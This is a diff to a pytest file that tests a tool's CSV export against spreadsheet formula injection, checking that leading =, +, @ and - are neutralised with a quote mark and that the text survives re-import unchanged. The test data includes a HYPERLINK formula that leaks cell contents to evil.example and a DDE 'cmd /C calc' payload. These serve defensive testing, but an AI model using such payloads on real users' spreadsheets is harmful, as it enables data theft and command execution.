@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
 
 import pytest
+import yaml
 
 from cli import invoke
 from sites import REPO
@@ -99,6 +102,40 @@ def test_round_trip_of_the_sample_repository_is_lossless(tmp_path: Path) -> None
     second = invoke(target, "export", "--format", "csv")
     assert second.stdout_bytes == first.stdout_bytes
     assert second.stdout_bytes.count(b"\r\n") > 60
+
+
+FORMULAS = {  # what a spreadsheet would run, or mark as text, at the start of a cell
+    "Sees a friend's post": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "Friend's post": "+33 1 23 45 67 89",
+    "Pays on the website": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Checkout": "'quoted in the map",
+    "Pays in one tap": "- pays in one tap",
+}
+
+
+def test_export_never_starts_a_cell_with_a_formula_and_import_gives_the_text_back(corpus: Path,
+                                                                                   tmp_path: Path) -> None:
+    for old, new in FORMULAS.items():
+        edit(corpus, BUY if old not in ("Pays in one tap",) else FUT, f": {old}\n", f": {json.dumps(new)}\n")
+    assert invoke(corpus, "validate").exit_code == 0
+    first = invoke(corpus, "export", "--format", "csv")
+    assert first.exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(first.stdout_bytes.decode("utf-8"), newline="")))
+    cells = [row[column] for row in rows for column in ("action", "touchpoint") if row[column]]
+    assert sorted(cells) == sorted("'" + text for text in FORMULAS.values())  # shown as text, never run
+    sheet = tmp_path / "sheet.csv"
+    sheet.write_bytes(first.stdout_bytes)
+    target = fresh(tmp_path / "new", source=corpus)
+    assert invoke(target, "import", str(sheet)).exit_code == 0
+    texts = []
+    for name in ("buy-shoes", "buy-shoes-future"):
+        data = yaml.safe_load((target / f"journeys/retail/{name}.md").read_text(encoding="utf-8").split("---")[1])
+        for phase in data["phases"]:
+            for step in phase["steps"]:
+                texts += [step["action"], *(tp["name"] for tp in step.get("touchpoints", []))]
+    assert sorted(texts) == sorted(FORMULAS.values())  # the maps' own texts, without the mark
+    second = invoke(target, "export", "--format", "csv")
+    assert second.stdout_bytes == first.stdout_bytes  # the round trip is still lossless
 
 
 def test_imported_file_is_exactly_what_the_sheet_says(corpus: Path, tmp_path: Path) -> None:
